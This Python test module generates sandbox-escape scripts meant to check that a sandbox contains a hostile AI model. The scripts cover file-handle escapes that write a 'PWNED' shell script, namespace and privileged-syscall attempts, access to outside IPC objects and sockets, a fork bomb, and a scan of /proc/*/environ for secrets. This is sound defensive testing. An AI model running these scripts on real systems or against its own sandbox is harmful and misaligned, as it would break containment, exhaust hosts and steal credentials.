"""Attack programs a hostile model would run inside the sandbox (tests/test_sandbox_isolation.py).

Each is a standalone Python script (run with the interpreter running the tests, in the
sandbox): it tries every variant of one attack and prints one line per attempt, ending with
`denied`/`not found`/... or with the word the test looks for (`WROTE`, `READ`, `SENT`, `GOT`).
Syscall numbers are the kernel's for x86_64 and aarch64.
"""
import os
import platform

#: syscall numbers used by the scripts (not every one has a libc wrapper)
SYSCALLS = {
    "x86_64": {"name_to_handle_at": 303, "open_by_handle_at": 304, "unshare": 272, "setns": 308, "clone": 56,
               "clone3": 435, "bpf": 321, "perf_event_open": 298, "userfaultfd": 323, "keyctl": 250, "syslog": 103,
               "pidfd_getfd": 438, "pidfd_open": 434},
    "aarch64": {"name_to_handle_at": 264, "open_by_handle_at": 265, "unshare": 97, "setns": 268, "clone": 220,
                "clone3": 435, "bpf": 280, "perf_event_open": 241, "userfaultfd": 282, "keyctl": 219, "syslog": 116,
                "pidfd_getfd": 438, "pidfd_open": 434},
}

_PRELUDE = '''
import ctypes, errno, os, socket, struct, sys
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
NR = %r
def fail_text():
    return os.strerror(ctypes.get_errno())
'''

#: open a directory by file handle through the writable workspace mount, then a file in it:
#: argv: MOUNTDIR then DIR NAME MODE triples (MODE "w" writes PWNED, "r" prints what it reads)
FILE_HANDLES = '''
mount_dir, rest = sys.argv[1], sys.argv[2:]
for i in range(0, len(rest), 3):
    d, name, mode = rest[i:i + 3]
    buf = ctypes.create_string_buffer(8 + 128)
    struct.pack_into("II", buf, 0, 128, 0)
    mount_id = ctypes.c_int()
    if libc.syscall(NR["name_to_handle_at"], -100, d.encode(), buf, ctypes.byref(mount_id), 0) != 0:
        print(name, "name_to_handle_at denied:", fail_text()); continue
    mfd = os.open(mount_dir, os.O_RDONLY | os.O_DIRECTORY)
    fd = libc.syscall(NR["open_by_handle_at"], mfd, buf, os.O_RDONLY | os.O_DIRECTORY)
    if fd < 0:
        print(name, "open_by_handle_at denied:", fail_text()); continue
    try:
        if mode == "w":
            w = os.open(name, os.O_WRONLY | os.O_CREAT | os.O_TRUNC, 0o755, dir_fd=fd)
            os.write(w, b"#!/bin/sh\\necho PWNED\\n"); print(name, "WROTE")
        else:
            r = os.open(name, os.O_RDONLY, dir_fd=fd); print(name, "READ", os.read(r, 4096))
    except OSError as exc:
        print(name, "denied at open:", exc.strerror)
'''

#: capabilities back through a new namespace, and syscalls a command has no business with
NAMESPACES = '''
CLONE_NEWUSER, CLONE_NEWNS, SIGCHLD = 0x10000000, 0x00020000, 17
for what, args in (("unshare(user)", (NR["unshare"], CLONE_NEWUSER)), ("unshare(mount)", (NR["unshare"], CLONE_NEWNS)),
                   ("setns", (NR["setns"], os.open("/proc/self/ns/net", os.O_RDONLY), 0)),
                   ("bpf", (NR["bpf"], 0, 0, 0)), ("perf_event_open", (NR["perf_event_open"], 0, 0, -1, -1, 0)),
                   ("userfaultfd", (NR["userfaultfd"], 0)), ("keyctl", (NR["keyctl"], 0, -3, 0)),
                   ("syslog", (NR["syslog"], 3, 0, 0)), ("clone3", (NR["clone3"], 0, 0))):
    r = libc.syscall(*[ctypes.c_long(a) for a in args])
    print(what, "ALLOWED" if r >= 0 else "denied: " + errno.errorcode.get(ctypes.get_errno(), "?"))
pid = libc.syscall(ctypes.c_long(NR["clone"]), ctypes.c_long(CLONE_NEWUSER | SIGCHLD), ctypes.c_long(0),
                   ctypes.c_long(0), ctypes.c_long(0), ctypes.c_long(0))
if pid == 0:
    os._exit(0)
if pid > 0:
    os.waitpid(pid, 0)
print("clone(CLONE_NEWUSER)", "ALLOWED" if pid >= 0 else "denied: " + errno.errorcode.get(ctypes.get_errno(), "?"))
pid = os.fork()
if pid == 0:
    os._exit(7)
print("plain fork", "ok" if os.waitpid(pid, 0)[1] >> 8 == 7 else "BROKEN")
'''

#: SysV and POSIX IPC objects made outside: argv SHM_KEY MSG_KEY POSIX_SHM_NAME
IPC = '''
shm_key, msg_key, posix_name = int(sys.argv[1]), int(sys.argv[2]), sys.argv[3]
r = libc.shmget(ctypes.c_int(shm_key), ctypes.c_size_t(0), ctypes.c_int(0))
print("sysv shm", "GOT" if r >= 0 else "not found: " + errno.errorcode.get(ctypes.get_errno(), "?"))
r = libc.msgget(ctypes.c_int(msg_key), ctypes.c_int(0))
print("sysv msg", "GOT" if r >= 0 else "not found: " + errno.errorcode.get(ctypes.get_errno(), "?"))
print("posix shm", "GOT" if os.path.exists("/dev/shm/" + posix_name) else "not found")
own = libc.shmget(ctypes.c_int(0), ctypes.c_size_t(4096), ctypes.c_int(0o1600))  # IPC_PRIVATE | IPC_CREAT
print("own sysv shm", "ok" if own >= 0 else "failed: " + errno.errorcode.get(ctypes.get_errno(), "?"))
if own >= 0:
    libc.shmctl(ctypes.c_int(own), ctypes.c_int(0), None)  # IPC_RMID
'''

#: POSIX semaphores and shared memory of the command's own (multiprocessing uses them)
OWN_POSIX_IPC = '''
import multiprocessing as mp
if __name__ == "__main__":
    lock = mp.Lock()
    with lock:
        pass
    value = mp.Value("i", 41)
    p = mp.Process(target=print, args=("child",))
    p.start(); p.join()
    print("own posix ipc", "ok" if p.exitcode == 0 else "failed")
'''

#: a datagram to a pathname socket, every socket type and send call: argv SOCKET_PATH
DATAGRAMS = '''
path = sys.argv[1]
class IOVec(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("len", ctypes.c_size_t)]
class MsgHdr(ctypes.Structure):
    _fields_ = [("name", ctypes.c_void_p), ("namelen", ctypes.c_uint32), ("iov", ctypes.POINTER(IOVec)),
                ("iovlen", ctypes.c_size_t), ("control", ctypes.c_void_p), ("controllen", ctypes.c_size_t),
                ("flags", ctypes.c_int)]
class MMsgHdr(ctypes.Structure):
    _fields_ = [("hdr", MsgHdr), ("len", ctypes.c_uint)]
def sendmmsg(sock, data):
    addr = struct.pack("H", socket.AF_UNIX) + path.encode() + b"\\0"
    abuf = ctypes.create_string_buffer(addr, len(addr))
    dbuf = ctypes.create_string_buffer(data, len(data))
    iov = IOVec(ctypes.cast(dbuf, ctypes.c_void_p), len(data))
    msg = MMsgHdr(MsgHdr(ctypes.cast(abuf, ctypes.c_void_p), len(addr), ctypes.pointer(iov), 1, None, 0, 0), 0)
    if libc.sendmmsg(sock.fileno(), ctypes.byref(msg), 1, 0) != 1:
        raise OSError(ctypes.get_errno(), fail_text())
sends = {
    "sendto": lambda s, d: s.sendto(d, path),
    "sendmsg": lambda s, d: s.sendmsg([d], [], 0, path),
    "sendmmsg": sendmmsg,
    "connect+send": lambda s, d: (s.connect(path), s.send(d)),
}
kinds = {"DGRAM": socket.SOCK_DGRAM, "RAW": socket.SOCK_RAW, "SEQPACKET": socket.SOCK_SEQPACKET,
         "STREAM": socket.SOCK_STREAM}
for kname, kind in kinds.items():
    for how in ("socket", "socketpair"):
        for sname, send in sends.items():
            label = "%s %s %s" % (how, kname, sname)
            try:
                if how == "socket":
                    s, keep = socket.socket(socket.AF_UNIX, kind), None
                else:
                    s, keep = socket.socketpair(socket.AF_UNIX, kind)
            except OSError as exc:
                print(label, "denied at socket:", exc.strerror); continue
            try:
                send(s, label.encode())
                if keep is not None:  # the address may be ignored: then it went to the pair's other end
                    keep.setblocking(False)
                    try:
                        if keep.recv(200) == label.encode():
                            print(label, "went to its own peer"); continue
                    except OSError:
                        pass
                print(label, "SENT")
            except OSError as exc:
                print(label, "failed:", exc.strerror)
for kname in ("STREAM", "SEQPACKET"):
    a, b = socket.socketpair(socket.AF_UNIX, kinds[kname])
    a.send(b"x")
    print("own %s pair" % kname, "ok" if b.recv(1) == b"x" else "broken")
'''

#: fork until the kernel says no: argv MAX SECONDS; each child execs `sleep SECONDS` (a unique
#: SECONDS such as 60.123 lets the test find exactly its own children)
FORK_BOMB = '''
n, err = 0, "none"
for _ in range(int(sys.argv[1])):
    try:
        pid = os.fork()
    except OSError as exc:
        err = exc.strerror
        break
    if pid == 0:
        try:
            os.execv("/bin/sleep", ["sleep", sys.argv[2]])
        finally:
            os._exit(1)
    n += 1
print("forked", n, "then", err)
'''

#: read the environment of every process we can name: argv SECRET
ENVIRON = '''
import glob
secret = sys.argv[1].encode()
found = []
for p in glob.glob("/proc/[0-9]*/environ"):
    try:
        with open(p, "rb") as fh:
            if secret in fh.read():
                found.append(p)
    except OSError:
        pass
print("FOUND" if found else "not found", found, "in my env:", secret.decode() in str(os.environ))
'''


def write_scripts(directory):
    """Write every attack script into `directory`; returns {name: path}."""
    arch = {"amd64": "x86_64", "arm64": "aarch64"}.get(platform.machine(), platform.machine())
    prelude = _PRELUDE % (SYSCALLS.get(arch, SYSCALLS["x86_64"]),)
    out = {}
    for name in ("FILE_HANDLES", "NAMESPACES", "IPC", "DATAGRAMS", "FORK_BOMB", "ENVIRON"):
        path = os.path.join(str(directory), name.lower() + ".py")
        with open(path, "w") as fh:
            fh.write(prelude + globals()[name])
        out[name] = path
    path = os.path.join(str(directory), "own_posix_ipc.py")
    with open(path, "w") as fh:
        fh.write(OWN_POSIX_IPC)
    out["OWN_POSIX_IPC"] = path
    return out
